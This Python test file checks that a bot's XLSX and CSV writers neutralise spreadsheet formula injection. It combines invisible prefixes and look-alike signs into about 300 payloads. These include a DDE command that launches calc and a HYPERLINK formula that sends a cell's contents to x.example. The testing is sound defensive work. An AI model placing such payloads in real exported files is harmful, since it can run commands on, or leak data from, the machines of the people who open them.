"""reliability test 36: two hundred payloads, none of them alive when the file is read again."""

from __future__ import annotations

import csv
import re
import unicodedata
import zipfile
from itertools import product
from pathlib import Path

import python_calamine as calamine

from bot.spreadsheet import write_csv, write_xlsx

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "|"]
BEFORE = ["", " ", "\t", "\u00a0", "\u3000", "\u200b", "\ufeff", "\r\n", "住户\n", "a\u2028"]
AFTER = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"点我")']
PAYLOADS = [before + sign + after for before, sign, after in product(BEFORE, SIGNS, AFTER)]


def alive(cell: str) -> bool:
    """Would any line of the cell begin like a formula, once what can't be seen is gone?"""
    unseen = {"Cc", "Cf", "Zs", "Zl", "Zp"}
    for line in re.split(r"[\r\n\v\f\x85\u2028\u2029]", cell):
        shown = "".join(
            sign for sign in unicodedata.normalize("NFKC", line) if unicodedata.category(sign) not in unseen
        )
        if shown[:1] in tuple("=+-@|%"):
            return True
    return False


def test_the_payloads_are_alive_before() -> None:
    assert len(PAYLOADS) >= 200
    assert all(map(alive, PAYLOADS))


def test_no_payload_lives_in_a_spreadsheet(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(path, {"住户": [["名字", "备注"], *([payload, payload] for payload in PAYLOADS)]})
    with zipfile.ZipFile(path) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    rows = calamine.load_workbook(path).get_sheet_by_index(0).to_python()[1:]
    assert len(rows) == len(PAYLOADS)
    assert [cell for row in rows for cell in row if alive(str(cell))] == []
    for payload, row in zip(PAYLOADS, rows, strict=True):  # and nothing of what was written is lost
        assert str(row[0]).endswith(payload[-3:])


def test_no_payload_lives_in_a_csv(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    write_csv(path, [[payload] for payload in PAYLOADS])
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [row[0] for row in csv.reader(file)]
    assert len(cells) == len(PAYLOADS)
    assert [cell for cell in cells if alive(cell)] == []
    assert [cell for cell in cells if cell[:1] in "=+-@"] == []
